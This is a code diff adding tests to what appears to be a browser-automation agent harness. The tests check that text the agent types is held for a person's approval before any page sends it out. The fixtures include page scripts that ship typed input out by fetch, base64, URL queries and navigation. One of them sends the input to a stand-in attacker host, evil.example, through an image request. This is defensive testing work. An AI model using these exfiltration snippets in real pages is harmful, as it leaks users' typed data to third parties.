@@ -78,6 +78,60 @@ test('a person submits what they typed themselves; what the agent typed is shown
   expect(rig.village.at('shop.example').filter(({ method }) => method === 'POST')).toHaveLength(0)
 })
 
+const AGENTS = `it's 5! "quoted"\nand & more`
+const AREA = '<textarea name=note aria-label=Note></textarea><button>Send</button>'
+const byScript = (body: string) =>
+  `${AREA}<script>document.querySelector('button').onclick=()=>{const V=document.querySelector('textarea').value;${body}}</script>`
+
+test.each([
+  ['a form', `<form method=post action="/to">${AREA}</form>`],
+  ['a form in parts', `<form method=post enctype="multipart/form-data" action="/to">${AREA}</form>`],
+  ['a form as text', `<form method=post enctype="text/plain" action="/to">${AREA}</form>`],
+  ['a form by GET', `<form action="/to">${AREA}</form>`],
+  ['a form by GET into a frame', `<iframe name=f></iframe><form target=f action="/to">${AREA}</form>`],
+  ['JSON', byScript(`fetch('/to',{method:'POST',body:JSON.stringify({V})})`)],
+  ['base64', byScript(`fetch('/to',{method:'POST',body:btoa('x'+V)})`)],
+  ['a file', byScript(`fetch('/to',{method:'POST',body:new Blob([V])})`)],
+  [
+    'the address of a request that sends nothing',
+    byScript(`fetch('/to?'+new URLSearchParams({V}),{method:'POST'})`),
+  ],
+  ['the address of a page', byScript(`location.href='/to?'+encodeURIComponent(V)`)],
+  ['two requests at once', byScript(`for (const to of ['/to','/to']) fetch(to,{method:'POST',body:V})`)],
+])('what the agent typed is shown to the person before it leaves in %s', async (_how, html) => {
+  rig.village.serve('shop.example/', html)
+  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
+  await rig.act({ action: 'type', ref: /Note" \[(e\d+)\]/.exec(text)?.[1], text: AGENTS })
+  const { session, holder } = await take()
+  rig.village.arrived.length = 0
+  const clicked = session.page.click('button')
+  await expect
+    .poll(() => session.holding.question?.held.url, { timeout: 10_000 })
+    .toContain('shop.example/to')
+  const arrived = () => rig.village.arrived.filter(({ path }) => path.startsWith('/to'))
+  expect(arrived()).toEqual([])
+  await session.holding.giveBack(holder)
+  await clicked
+  await rig.act({ action: 'snapshot' })
+  expect(arrived()).toEqual([])
+})
+
+test('what the agent typed goes to no new host while a person has the browser', async () => {
+  rig.village.serve(
+    'shop.example/',
+    byScript(
+      `new Image().src='http://evil.example/?'+encodeURIComponent(V);new Image().src='http://cdn.example/'`,
+    ),
+  )
+  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
+  await rig.act({ action: 'type', ref: /Note" \[(e\d+)\]/.exec(text)?.[1], text: AGENTS })
+  const { session, holder } = await take()
+  await session.page.click('button')
+  await expect.poll(() => rig.village.at('cdn.example')).toHaveLength(1)
+  expect(rig.village.at('evil.example')).toEqual([])
+  await session.holding.giveBack(holder)
+})
+
 test('handing back while a request is held is a no to it', async () => {
   rig.village.serve('shop.example/', LOGIN)
   const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
